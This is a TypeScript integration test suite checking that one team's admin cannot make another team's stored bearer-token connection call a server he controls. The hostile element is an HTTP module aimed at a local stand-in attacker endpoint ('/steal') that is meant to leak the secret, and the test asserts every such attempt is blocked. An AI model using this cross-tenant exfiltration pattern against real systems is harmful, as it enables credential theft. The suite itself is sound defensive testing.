import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { databaseTargets } from '../support/databases';
import { auth, startTestApp, type TestApp } from '../support/app';

const SECRET = 'ALICE-TEAM-SECRET-4c1d7e';

/**
 * Two users in two teams. Bob (admin of team B) tries every way to make Alice's connection
 * (team A) call a server he runs; that server must receive nothing.
 */
describe.each(databaseTargets({ distributed: true }))('team isolation on $name', (target) => {
  let t: TestApp;
  let owner: Record<string, string>;
  let alice: Record<string, string>;
  let bob: Record<string, string>;
  let evil: Server;
  let evilUrl: string;
  const received: string[] = [];
  const ids: Record<string, number> = {};

  const httpModule = (connection: number, id = 1) => ({
    id,
    module: 'http:MakeRequest',
    version: 4,
    parameters: { connection },
    mapper: { url: `${evilUrl}/steal`, method: 'GET' },
  });

  beforeAll(async () => {
    t = await startTestApp(target);
    owner = auth(t.token);
    evil = createServer((req, res) => {
      received.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
      res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    });
    await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;

    const team = async (name: string) =>
      (await t.http().post('/api/teams').set(owner).send({ name }).expect(201)).body.id as number;
    ids.teamA = await team('Team A');
    ids.teamB = await team('Team B');
    const user = async (email: string, teamId: number) => {
      await t
        .http()
        .post('/api/users')
        .set(owner)
        .send({ email, name: email, password: 'password123', role: 'user', teamId, teamRole: 'admin' })
        .expect(201);
      return auth(await t.login(email, 'password123'));
    };
    alice = await user('alice@example.com', ids.teamA);
    bob = await user('bob@example.com', ids.teamB);

    const conn = await t
      .http()
      .post('/api/connections')
      .set(alice)
      .send({ name: 'Alice API', type: 'bearer', credentials: { token: SECRET } })
      .expect(201);
    ids.aliceConn = conn.body.id;
    const scenario = await t
      .http()
      .post('/api/scenarios')
      .set(alice)
      .send({
        name: 'Alice scenario',
        blueprint: {
          flow: [{ ...httpModule(ids.aliceConn), mapper: { url: 'http://127.0.0.1:9/', method: 'GET' } }],
        },
      })
      .expect(201);
    ids.aliceScenario = scenario.body.id;
    ids.aliceStore = (
      await t.http().post('/api/datastores').set(alice).send({ name: 'Alice store' }).expect(201)
    ).body.id;
    ids.bobScenario = (
      await t.http().post('/api/scenarios').set(bob).send({ name: 'Bob scenario' }).expect(201)
    ).body.id;
  }, 120_000); // four accounts' password hashes and a fresh schema: slow on a loaded CI machine
  afterAll(async () => {
    await t?.close();
    evil?.close();
  });

  test('Bob sees nothing of team A and cannot switch into it', async () => {
    const teams = await t.http().get('/api/teams').set(bob).expect(200);
    expect(teams.body).toEqual([{ id: ids.teamB, name: 'Team B', role: 'admin' }]);
    await t
      .http()
      .get('/api/connections')
      .set({ ...bob, 'X-Team-Id': String(ids.teamA) })
      .expect(404);
    await t.http().get(`/api/scenarios?teamId=${ids.teamA}&search=Alice`).set(bob).expect(404);
    // The owner is admin of every team; the query names the team as well as the header does.
    const inA = await t.http().get(`/api/scenarios?teamId=${ids.teamA}&search=Alice`).set(owner).expect(200);
    expect(inA.body.items.map((s: { id: number }) => s.id)).toEqual([ids.aliceScenario]);
    const inB = await t
      .http()
      .get('/api/scenarios')
      .set({ ...owner, 'X-Team-Id': String(ids.teamB) })
      .expect(200);
    expect(inB.body.items.map((s: { id: number }) => s.id)).toEqual([ids.bobScenario]);
    expect((await t.http().get('/api/connections').set(bob).expect(200)).body).toEqual([]);
    expect(
      (await t.http().get('/api/scenarios').set(bob).expect(200)).body.items.map((s: { id: number }) => s.id),
    ).toEqual([ids.bobScenario]);
    // Another team's record is a 404, exactly like one that does not exist.
    const missing = await t.http().get('/api/connections/999999').set(bob).expect(404);
    const foreign = await t.http().get(`/api/connections/${ids.aliceConn}`).set(bob).expect(404);
    expect(foreign.body.message).toBe(`connection ${ids.aliceConn} not found`);
    expect(missing.body.message).toBe('connection 999999 not found');
    await t.http().get(`/api/scenarios/${ids.aliceScenario}`).set(bob).expect(404);
    await t.http().get(`/api/datastores/${ids.aliceStore}/records`).set(bob).expect(404);
  });

  test("his own scenario cannot reference Alice's connection or data store (403 naming the field)", async () => {
    const res = await t
      .http()
      .post('/api/scenarios')
      .set(bob)
      .send({ name: 'Steal', blueprint: { flow: [httpModule(ids.aliceConn)] } })
      .expect(403);
    expect(res.body.message).toBe(
      `flow[0].parameters.connection: connection ${ids.aliceConn} belongs to another team`,
    );
    expect(res.body.fields).toEqual([
      {
        path: 'flow[0].parameters.connection',
        message: `connection ${ids.aliceConn} belongs to another team`,
      },
    ]);
    const nested = await t
      .http()
      .put(`/api/scenarios/${ids.bobScenario}`)
      .set(bob)
      .send({
        blueprint: {
          flow: [
            { id: 1, module: 'builtin:BasicRouter', routes: [{ flow: [httpModule(ids.aliceConn, 2)] }] },
          ],
        },
      })
      .expect(403);
    expect(nested.body.fields[0].path).toBe('flow[0].routes[0].flow[0].parameters.connection');
    const store = await t
      .http()
      .put(`/api/scenarios/${ids.bobScenario}`)
      .set(bob)
      .send({
        blueprint: {
          flow: [
            {
              id: 1,
              module: 'datastore:getRecord',
              parameters: { datastore: ids.aliceStore },
              mapper: { key: 'x' },
            },
          ],
        },
      })
      .expect(403);
    expect(store.body.fields[0]).toEqual({
      path: 'flow[0].parameters.datastore',
      message: `data store ${ids.aliceStore} belongs to another team`,
    });
  });

  test("he can neither edit nor run Alice's scenario", async () => {
    await t
      .http()
      .put(`/api/scenarios/${ids.aliceScenario}`)
      .set(bob)
      .send({ blueprint: { flow: [httpModule(ids.aliceConn)] } })
      .expect(404);
    await t.http().post(`/api/scenarios/${ids.aliceScenario}/run`).set(bob).send({}).expect(404);
    await t
      .http()
      .post(`/api/scenarios/${ids.aliceScenario}/run`)
      .set(bob)
      .send({ blueprint: { flow: [httpModule(ids.aliceConn)] } })
      .expect(404);
    await t.http().post(`/api/scenarios/${ids.aliceScenario}/activate`).set(bob).expect(404);
  });

  test("a draft run of his own scenario with Alice's connection is refused", async () => {
    const res = await t
      .http()
      .post(`/api/scenarios/${ids.bobScenario}/run`)
      .set(bob)
      .send({ blueprint: { flow: [httpModule(ids.aliceConn)] } })
      .expect(403);
    expect(res.body.fields[0].path).toBe('flow[0].parameters.connection');
  });

  test("an import carrying Alice's connection id is refused; Make's connection ids never carry over", async () => {
    const ours = await t
      .http()
      .post('/api/scenarios/import')
      .set(bob)
      .send({
        blueprint: { name: 'x', flow: [httpModule(ids.aliceConn)], metadata: { integrator: { format: 1 } } },
      })
      .expect(403);
    expect(ours.body.fields).toEqual([
      {
        path: 'flow[0].parameters.connection',
        message: `connection ${ids.aliceConn} belongs to another team`,
      },
    ]);
    // A Make export's __IMTCONN__ names a connection in the Make account: it is cleared, never
    // matched against ours, and the report asks for a connection to be chosen.
    const make = await t
      .http()
      .post('/api/scenarios/import')
      .set(bob)
      .send({
        blueprint: {
          name: 'From Make',
          flow: [
            {
              id: 1,
              module: 'http:ActionSendData',
              version: 3,
              parameters: { __IMTCONN__: ids.aliceConn, handleErrors: false },
              mapper: { url: `${evilUrl}/steal`, method: 'get' },
              metadata: { designer: { x: 0, y: 0 } },
            },
          ],
          metadata: { version: 1, scenario: {} },
        },
      })
      .expect(201);
    expect(JSON.stringify(make.body.scenario.blueprint)).not.toMatch(
      new RegExp(`"(connection|__IMTCONN__)":${ids.aliceConn}\\b`),
    );
    expect(make.body.report.connectionsToChoose).toHaveLength(1);
  });

  test('a share withdrawn later is re-checked when the run starts', async () => {
    // Alice (admin of A) shares her connection with team B: Bob may select it, never read it.
    await t.http().put(`/api/connections/${ids.aliceConn}/shares/${ids.teamB}`).set(bob).expect(404);
    await t.http().put(`/api/connections/${ids.aliceConn}/shares/${ids.teamB}`).set(alice).expect(200);
    const listed = (await t.http().get('/api/connections').set(bob).expect(200)).body;
    expect(listed).toEqual([
      expect.objectContaining({ id: ids.aliceConn, shared: true, values: {}, secretsSet: [] }),
    ]);
    await t.http().get(`/api/connections/${ids.aliceConn}`).set(bob).expect(404);
    await t.http().put(`/api/connections/${ids.aliceConn}`).set(bob).send({ name: 'mine' }).expect(404);
    await t
      .http()
      .put(`/api/scenarios/${ids.bobScenario}`)
      .set(bob)
      .send({ blueprint: { flow: [httpModule(ids.aliceConn)] } })
      .expect(200);
    // ...then withdraws the share. The saved scenario must not use it any more.
    await t.http().delete(`/api/connections/${ids.aliceConn}/shares/${ids.teamB}`).set(alice).expect(204);
    const run = await t.http().post(`/api/scenarios/${ids.bobScenario}/run`).set(bob).send({}).expect(201);
    expect(run.body.status).toBe('error');
    expect(run.body.error.message).toBe(
      `flow[0].parameters.connection: connection ${ids.aliceConn} belongs to another team`,
    );
    expect(received).toEqual([]);
  });

  test("an app connector of team B can neither list nor run team A's scenario", async () => {
    const group = await t
      .http()
      .post('/api/groups')
      .set(owner)
      .send({ name: 'Bob apps', userIds: [] })
      .expect(201);
    const refused = await t
      .http()
      .post('/api/app-connectors')
      .set(bob)
      .send({ description: 'Bob app', groupId: group.body.id, scenarioIds: [ids.aliceScenario] })
      .expect(400);
    expect(refused.body.fields).toEqual([
      { path: 'scenarioIds[0]', message: `scenario ${ids.aliceScenario} does not exist` },
    ]);
    // One allowed while it was Bob's; the scenario then moves to team A: the call is refused at run time.
    await t.http().post(`/api/scenarios/${ids.bobScenario}/activate`).set(bob);
    const connector = await t
      .http()
      .post('/api/app-connectors')
      .set(bob)
      .send({
        description: 'Bob app 2',
        groupId: group.body.id,
        scenarioIds: [ids.bobScenario],
        blocked: false,
      })
      .expect(201);
    const bobId = (await t.http().get('/api/auth/me').set(bob).expect(200)).body.id;
    await t
      .http()
      .put(`/api/groups/${group.body.id}`)
      .set(owner)
      .send({ userIds: [bobId] })
      .expect(200);
    await t
      .http()
      .post('/api/app/otp-request')
      .send({ key: connector.body.key, user: 'bob@example.com' })
      .expect(202);
    const mail = (await t.http().get('/api/outbox').set(owner).expect(200)).body.items[0];
    const code = /\b(\d{8})\b/.exec(mail.text)?.[1];
    const token = (
      await t
        .http()
        .post('/api/app/otp-validation')
        .send({ key: connector.body.key, user: 'bob@example.com', code })
        .expect(200)
    ).body.token as string;
    await t.db().query(`UPDATE scenarios SET "teamId" = ${ids.teamA} WHERE id = ${ids.bobScenario}`);
    const run = await t
      .http()
      .post(`/api/app/scenarios/${ids.bobScenario}/run`)
      .set({ Authorization: `Bearer ${token}` })
      .send({})
      .expect(403);
    expect(run.body.message).toBe(`this app connector may not run scenario ${ids.bobScenario}`);
    expect(received).toEqual([]);
  });

  test("a connection moved to another team is refused to its old team's scenarios at run time", async () => {
    const teamC = (await t.http().post('/api/teams').set(owner).send({ name: 'Team C' }).expect(201)).body.id;
    // Alice is not an admin of team C: for her it does not exist.
    await t
      .http()
      .put(`/api/connections/${ids.aliceConn}/team`)
      .set(alice)
      .send({ teamId: teamC })
      .expect(404);
    await t
      .http()
      .put(`/api/connections/${ids.aliceConn}/team`)
      .set(bob)
      .send({ teamId: ids.teamB })
      .expect(404);
    await t
      .http()
      .put(`/api/connections/${ids.aliceConn}/team`)
      .set(owner)
      .send({ teamId: teamC })
      .expect(200);
    const run = await t
      .http()
      .post(`/api/scenarios/${ids.aliceScenario}/run`)
      .set(alice)
      .send({})
      .expect(201);
    expect(run.body.status).toBe('error');
    expect(run.body.error.message).toBe(
      `flow[0].parameters.connection: connection ${ids.aliceConn} belongs to another team`,
    );
    await t.http().get(`/api/connections/${ids.aliceConn}`).set(alice).expect(404);
    const moved = await t.http().get(`/api/audit?action=connection.moved`).set(owner).expect(200);
    expect(moved.body.items.map((i: { teamId: number }) => i.teamId).sort()).toEqual(
      [ids.teamA, teamC].sort(),
    );
    // Back to team A for the last check.
    await t
      .http()
      .put(`/api/connections/${ids.aliceConn}/team`)
      .set(owner)
      .send({ teamId: ids.teamA })
      .expect(200);
    expect(received).toEqual([]);
  });

  test("the owner (Alice's team, as admin everywhere) still runs Alice's scenario; the server Bob runs got nothing", async () => {
    const run = await t
      .http()
      .post(`/api/scenarios/${ids.aliceScenario}/run`)
      .set(owner)
      .send({})
      .expect(201);
    expect(run.body.status).not.toBe('success'); // port 9 is closed: it failed, but with Alice's own connection
    expect(received).toEqual([]);
  });
});
